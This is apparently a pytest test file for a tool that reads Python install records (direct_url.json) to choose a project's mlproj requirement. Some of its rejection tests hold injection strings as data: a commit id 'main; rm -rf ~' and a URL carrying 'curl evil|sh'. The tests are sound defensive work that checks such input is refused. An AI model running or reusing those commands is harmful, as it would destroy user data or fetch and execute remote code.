"""Where the running mlproj came from (PEP 610's direct_url.json), and what a project asks for."""

from __future__ import annotations

import json

import pytest

from mlproj.scaffold.source import FIX, PYPI_PAGE, MlprojSource, source_from_record, version_range

SHA = "0123456789abcdef0123456789abcdef01234567"
RANGE = "mlproj>=0.2,<1"


def record(url: str, **info: object) -> str:
    return json.dumps({"url": url, **info})


def test_from_an_index_the_project_asks_for_the_compatible_range() -> None:
    assert source_from_record(None, "0.2.0") == MlprojSource(RANGE)
    assert version_range("1.10.3rc1") == "mlproj>=1.10,<2"


@pytest.mark.parametrize(
    ("url", "link"),
    [
        pytest.param(
            "https://github.com/acme/mlproj.git", "https://github.com/acme/mlproj", id="https"
        ),
        pytest.param("ssh://git@github.com/acme/mlproj.git", PYPI_PAGE, id="ssh"),
    ],
)
def test_from_a_git_url_the_project_pins_its_commit(url: str, link: str) -> None:
    text = record(url, vcs_info={"vcs": "git", "commit_id": SHA, "requested_revision": "main"})
    assert source_from_record(text, "0.2.0") == MlprojSource(
        f"mlproj @ git+{url}@{SHA}", pinned=True, link=link
    )


def test_a_subdirectory_is_kept() -> None:
    text = record(
        "https://example.org/mono.git",
        vcs_info={"vcs": "git", "commit_id": SHA},
        subdirectory="py/mlproj",
    )
    assert source_from_record(text, "0.2.0").requirement == (
        f"mlproj @ git+https://example.org/mono.git@{SHA}#subdirectory=py/mlproj"
    )


def test_a_wheel_from_a_url_is_pinned_with_its_hash() -> None:
    digest = "a" * 64
    text = record(
        "https://files.example.org/mlproj-0.2.0-py3-none-any.whl",
        archive_info={"hashes": {"sha256": digest}},
    )
    source = source_from_record(text, "0.2.0")
    assert (
        source.requirement
        == f"mlproj @ https://files.example.org/mlproj-0.2.0-py3-none-any.whl#sha256={digest}"
    )
    assert source.pinned and not source.warning


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            record("file:///work/mlproj", dir_info={"editable": True}), id="editable-folder"
        ),
        pytest.param(record("file:///work/mlproj", dir_info={}), id="folder"),
        pytest.param(
            record("file:///work/mlproj", vcs_info={"vcs": "git", "commit_id": SHA}), id="git-file"
        ),
        pytest.param(
            record("file:///tmp/mlproj-0.2.0-py3-none-any.whl", archive_info={}), id="local-wheel"
        ),
    ],
)
def test_a_folder_on_this_machine_keeps_the_range_and_says_how_to_pin(text: str) -> None:
    source = source_from_record(text, "0.2.0")
    assert source.requirement == RANGE and not source.pinned
    path = json.loads(text)["url"].removeprefix("file://")
    assert source.warning == (
        f'mlproj was installed from "{path}" on this machine, which CI cannot reach: the project '
        f"asks for {RANGE} from PyPI. To pin this mlproj instead, push it and {FIX}."
    )


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        pytest.param(
            "{not json", "its install record (direct_url.json) cannot be read", id="malformed"
        ),
        pytest.param(
            "[1, 2]", "its install record (direct_url.json) cannot be read", id="not-an-object"
        ),
        pytest.param(
            json.dumps({"url": 7}),
            "its install record (direct_url.json) cannot be read",
            id="url-not-text",
        ),
        pytest.param(
            record("https://example.org/m", vcs_info={"vcs": "fossil", "commit_id": SHA}),
            'it came from an unknown version control system ("fossil")',
            id="unknown-vcs",
        ),
        pytest.param(
            record("https://example.org/m", vcs_info={"vcs": ["git"], "commit_id": SHA}),
            'it came from an unknown version control system ("[\\"git\\"]")',
            id="vcs-not-text",
        ),
        pytest.param(
            record("https://example.org/m.git", vcs_info={"vcs": "git"}),
            "its git install record holds no usable commit id",
            id="missing-commit",
        ),
        pytest.param(
            record(
                "https://example.org/m.git", vcs_info={"vcs": "git", "commit_id": "main; rm -rf ~"}
            ),
            "its git install record holds no usable commit id",
            id="commit-not-a-sha",
        ),
        pytest.param(
            record(
                'https://example.org/m.git"; curl evil|sh #',
                vcs_info={"vcs": "git", "commit_id": SHA},
            ),
            'its install URL "https://example.org/m.git\\"; curl evil|sh #" is not one CI can be given',
            id="shell-in-url",
        ),
        pytest.param(
            record(
                "https://alice:s3cret@example.org/m.git", vcs_info={"vcs": "git", "commit_id": SHA}
            ),
            "its install URL holds a password, which is not copied into a project",
            id="password-in-url",
        ),
        pytest.param(
            record(
                "https://example.org/m.git",
                vcs_info={"vcs": "git", "commit_id": SHA},
                subdirectory="../x y",
            ),
            "its install record names an unusable subdirectory",
            id="bad-subdirectory",
        ),
        pytest.param(
            record("https://example.org/m"),
            'its install record names "https://example.org/m" without saying what it is',
            id="no-info",
        ),
    ],
)
def test_an_unusable_record_keeps_the_range_and_says_why(text: str, reason: str) -> None:
    assert source_from_record(text, "0.2.0") == MlprojSource(
        RANGE, warning=f"The project asks for {RANGE} from PyPI: {reason}."
    )
